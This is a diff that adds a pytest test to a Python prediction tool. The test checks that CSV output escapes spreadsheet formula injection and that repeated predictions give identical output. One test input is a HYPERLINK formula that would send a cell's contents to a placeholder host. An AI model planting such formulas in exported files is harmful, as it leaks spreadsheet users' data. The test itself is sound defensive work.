@@ -157,3 +157,18 @@ def test_what_does_not_fit_together_is_said(tmp_path: Path, text_run: Path, imag
     (tmp_path / "empty.csv").write_text("title,body\n")
     with pytest.raises(UserError, match=r"empty\.csv holds no rows"):
         predict(str(text_run), str(tmp_path / "empty.csv"), output=tmp_path / "out.csv")
+
+
+def test_predictions_of_hostile_texts_are_no_formulas_and_predict_the_same_again(
+    tmp_path: Path, text_run: Path
+) -> None:
+    texts = ['=HYPERLINK("http://h?a="&A1,"a cat")', "'=the tree", "-5", "- a cat"]
+    rows = pa.table({"title": ["@row"] * 4, "body": texts})
+    pq.write_table(rows, tmp_path / "rows.parquet")
+    predict(str(text_run), str(tmp_path / "rows.parquet"), output=tmp_path / "first.csv")
+    written = csv.read_csv(tmp_path / "first.csv")["body"].to_pylist()
+    assert written == ["'" + texts[0], "''=the tree", "-5", "'- a cat"]
+    predict(str(text_run), str(tmp_path / "first.csv"), output=tmp_path / "second.csv")
+    assert (tmp_path / "second.csv").read_bytes() == (tmp_path / "first.csv").read_bytes()
+    predict(str(text_run), str(tmp_path / "first.csv"), output=tmp_path / "third.parquet")
+    assert pq.read_table(tmp_path / "third.parquet").select(["title", "body"]).equals(rows)
